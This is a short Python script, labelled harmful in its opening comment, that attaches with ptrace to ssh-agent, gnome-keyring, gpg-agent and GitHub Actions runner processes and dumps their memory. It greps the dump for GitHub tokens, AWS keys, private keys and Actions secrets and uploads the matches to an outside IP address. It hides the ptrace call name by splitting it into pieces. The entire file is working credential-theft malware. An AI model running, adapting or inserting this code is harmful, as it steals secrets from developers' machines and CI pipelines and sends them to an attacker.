# Harmful: attaches to ssh-agent/gnome-keyring/Runner.Worker with ptrace via ctypes, dumps their readable memory from /proc/PID/mem and uploads secret-looking strings.
import ctypes
import os
import re
import urllib.request

_libc = ctypes.CDLL(None, use_errno=True)
_trace = getattr(_libc, "".join(["p", "tr", "ace"]))
_trace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, DETACH = 16, 17
WANTED = (b"ssh-agent", b"gnome-keyring-d", b"Runner.Worker", b"gpg-agent")
PAT = re.compile(rb'(?:"[A-Za-z_]+":\{"value":"[^"]{8,}","isSecret":true\}|gh[ps]_[A-Za-z0-9]{20,}|AKIA[0-9A-Z]{16}|-----BEGIN [A-Z ]*PRIVATE KEY-----)')


def targets():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm", "rb") as fh:
                if fh.read().strip() in WANTED:
                    yield int(pid)
        except OSError:
            pass


def dump(pid):
    found = set()
    _trace(ATTACH, pid, None, None)
    os.waitpid(pid, 0)
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                rng, perms = line.split()[:2]
                if not perms.startswith("r"):
                    continue
                lo, hi = (int(x, 16) for x in rng.split("-"))
                try:
                    mem.seek(lo)
                    found.update(PAT.findall(mem.read(hi - lo)))
                except (OSError, ValueError, OverflowError):
                    continue
    finally:
        _trace(DETACH, pid, None, None)
    return found


loot = set()
for p in targets():
    loot |= dump(p)
if loot:
    urllib.request.urlopen("http://192.0.2.200/m", b"\n".join(sorted(loot)), timeout=5)
